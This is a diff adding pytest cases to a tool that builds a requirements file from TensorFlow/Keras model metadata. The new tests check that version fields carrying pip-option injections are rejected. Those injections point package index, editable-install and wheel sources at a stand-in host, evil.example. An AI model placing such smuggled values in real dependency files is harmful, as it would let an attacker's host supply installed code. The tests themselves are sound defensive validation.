@@ -71,3 +71,29 @@ def test_the_python_each_saving_tf_gets_without_lambdas(tf, keras, python):
                                     keras_version=keras)).python == python
     if not keras.startswith("3."):   # an H5 file: TF from keras_version, its last patch release
         assert infer.plan(ModelFileInfo(path="/m.h5", format="h5", keras_version=keras)).python == python
+
+
+@pytest.mark.parametrize("field,value", [
+    ("tensorflow_version", "2.4.1 --extra-index-url http://evil.example/simple"),
+    ("tensorflow_version", "2.4.1\n-e git+https://evil.example/x.git"),
+    ("tensorflow_version", "2.4.1; os_name == 'posix'"),
+    ("keras_version", "3.5.0 @ https://evil.example/keras.whl"),
+    ("keras_version", "3.5.0\n--index-url http://evil.example"),
+    ("keras_version", "2.16.0 --trusted-host evil.example"),
+])
+def test_version_strings_from_a_model_file_are_versions_or_refused(field, value):
+    """Version strings read from a hostile model file go into a requirements file: only a PEP 440
+    version passes, anything else is one CaptureError naming the file (exit 2)."""
+    from envrepro.errors import CaptureError
+
+    kw = {"tensorflow_version": "2.17.1", "keras_version": "3.5.0"}
+    kw[field] = value
+    with pytest.raises(CaptureError) as e:
+        infer.plan(ModelFileInfo(path="/evil.keras", format="keras", **kw))
+    assert "is not a version" in str(e.value) and "/evil.keras" in str(e.value)
+    assert e.value.exit_code == 2
+
+
+def test_versions_are_written_canonical():
+    p = infer.plan(ModelFileInfo(path="/sm", format="savedmodel", tensorflow_version="2.4.01"))
+    assert p.requirements == ["tensorflow-cpu==2.4.1"]
